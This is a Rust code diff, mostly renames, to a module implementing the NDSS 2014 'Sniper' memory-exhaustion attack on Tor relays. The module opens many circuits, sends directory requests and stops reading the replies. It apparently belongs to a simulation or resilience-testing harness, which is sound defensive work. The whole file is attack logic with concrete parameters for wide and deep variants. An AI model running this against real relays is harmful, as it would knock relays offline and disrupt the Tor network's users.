@@ -1,9 +1,9 @@
-//! The Sniper attack (Jansen, Tschorsch, Johnson, Scheuermann: "The Sniper Attack", NDSS 2014): the relay is made to hold
-//! cells that nobody reads, until it runs out of memory or destroys the circuits of others.
+//! The Sniper attack (Jansen, Tschorsch, Johnson, Scheuermann: "The Sniper Attack", NDSS 2014): the attacker makes
+//! the relay queue cells that it never reads, until the relay runs out of memory or destroys other circuits.
 
 use super::Attack;
+use super::attacker::{Attacker, LineId};
 use super::circuits::Circuit;
-use super::field::{Field, LineId};
 use onion::cell::relay::RelayCommand;
 
 /// A request that is answered in one cell.
@@ -13,96 +13,90 @@ const SHORT: &[u8] = b"GET /tor/nothing HTTP/1.0\r\n\r\n";
 const LONG: &[u8] = b"GET /tor/server/all HTTP/1.0\r\n\r\n";
 
 /// A line that is filled with circuits, and then no longer read.
-struct Gun {
+struct SniperLine {
     line: LineId,
-    loaded: Vec<Circuit>,
-    is_shooting: bool,
+    circuits: Vec<Circuit>,
+    is_full: bool,
     /// The number of requests sent on the line.
-    shots: u32,
+    requests: u32,
 }
 
 /// Fills one line after the other, each from a new address: circuits first, then requests whose answers stay unread.
-struct Battery {
-    guns: Vec<Gun>,
+struct Sniper {
+    lines: Vec<SniperLine>,
     next_address: u32,
     circuits_per_line: u32,
     streams_per_circuit: u32,
     request: &'static [u8],
 }
 
-impl Battery {
-    /// Lines that are being filled at a time.
-    const LOADING: usize = 3;
+impl Sniper {
+    /// The maximum number of lines that are being filled at a time.
+    const FILLING: usize = 3;
 
     fn new(circuits_per_line: u32, streams_per_circuit: u32, request: &'static [u8]) -> Self {
-        Self { guns: Vec::new(), next_address: 0, circuits_per_line, streams_per_circuit, request }
+        Self { lines: Vec::new(), next_address: 0, circuits_per_line, streams_per_circuit, request }
     }
 
-    fn load(&mut self, field: &mut Field) {
-        let loading = self.guns.iter().filter(|gun| !gun.is_shooting).count();
-        if loading < Self::LOADING
-            && let Some(line) = field.dial_narrow(self.next_address)
+    fn open_circuits(&mut self, attacker: &mut Attacker) {
+        if self.lines.iter().filter(|it| !it.is_full).count() < Self::FILLING
+            && let Some(line) = attacker.dial_narrow(self.next_address)
         {
             self.next_address += 1;
-            self.guns.push(Gun { line, loaded: Vec::new(), is_shooting: false, shots: 0 });
+            self.lines.push(SniperLine { line, circuits: Vec::new(), is_full: false, requests: 0 });
         }
-        for gun in self.guns.iter().filter(|gun| !gun.is_shooting) {
-            while field.takes(gun.line) && field.begun(gun.line) < self.circuits_per_line {
-                field.begin(gun.line, &[]);
+        for SniperLine { line, .. } in self.lines.iter().filter(|it| !it.is_full) {
+            while attacker.can_send(*line) && attacker.begun(*line) < self.circuits_per_line {
+                attacker.begin(*line, &[]);
             }
         }
     }
 
-    fn shoot(&mut self, field: &mut Field) {
-        for gun in &mut self.guns {
-            let wanted = usize::try_from(self.circuits_per_line).unwrap_or(usize::MAX);
-            if !gun.is_shooting && gun.loaded.len() == wanted {
-                gun.is_shooting = true;
-                field.deafen(gun.line);
+    fn send_requests(&mut self, attacker: &mut Attacker) {
+        let wanted = self.circuits_per_line as usize;
+        for it in &mut self.lines {
+            if !it.is_full && it.circuits.len() == wanted {
+                it.is_full = true;
+                attacker.stop_reading(it.line);
             }
-            if !gun.is_shooting {
-                continue;
-            }
-            // Each circuit in turn, with one more stream.
-            while gun.shots < self.circuits_per_line * self.streams_per_circuit
-                && field.takes(gun.line)
+            // One more stream on each circuit in turn.
+            while it.is_full
+                && it.requests < self.circuits_per_line * self.streams_per_circuit
+                && attacker.can_send(it.line)
             {
-                let circuit = gun.shots % self.circuits_per_line;
-                let stream = u16::try_from(gun.shots / self.circuits_per_line + 1).unwrap_or(1);
-                let circuit = gun.loaded.get_mut(usize::try_from(circuit).unwrap_or_default());
-                if let Some(circuit) = circuit {
-                    circuit.send(field, RelayCommand::BEGIN_DIR, stream, &[]);
-                    circuit.send(field, RelayCommand::DATA, stream, self.request);
-                }
-                gun.shots += 1;
+                let circuit = &mut it.circuits[it.requests as usize % wanted];
+                let stream = u16::try_from(it.requests / self.circuits_per_line + 1).unwrap_or(1);
+                circuit.send(attacker, RelayCommand::BEGIN_DIR, stream, &[]);
+                circuit.send(attacker, RelayCommand::DATA, stream, self.request);
+                it.requests += 1;
             }
         }
     }
 }
 
-impl Attack for Battery {
-    fn act(&mut self, field: &mut Field) {
-        self.load(field);
-        self.shoot(field);
+impl Attack for Sniper {
+    fn act(&mut self, attacker: &mut Attacker) {
+        self.open_circuits(attacker);
+        self.send_requests(attacker);
     }
 
-    fn handle_built(&mut self, _field: &mut Field, circuit: Circuit) {
-        if let Some(gun) = self.guns.iter_mut().find(|gun| gun.line == circuit.line) {
-            gun.loaded.push(circuit);
+    fn handle_built(&mut self, _attacker: &mut Attacker, circuit: Circuit) {
+        if let Some(it) = self.lines.iter_mut().find(|it| it.line == circuit.line) {
+            it.circuits.push(circuit);
         }
     }
 
     fn handle_lost(&mut self, line: LineId) {
-        self.guns.retain(|gun| gun.line != line);
+        self.lines.retain(|it| it.line != line);
     }
 }
 
 /// A growing number of circuits with few unread cells on each.
 pub(super) fn wide() -> impl Attack {
-    Battery::new(2_000, 1, SHORT)
+    Sniper::new(2_000, 1, SHORT)
 }
 
 /// Few circuits with many unread cells on each.
 pub(super) fn deep() -> impl Attack {
-    Battery::new(40, 20, LONG)
+    Sniper::new(40, 20, LONG)
 }
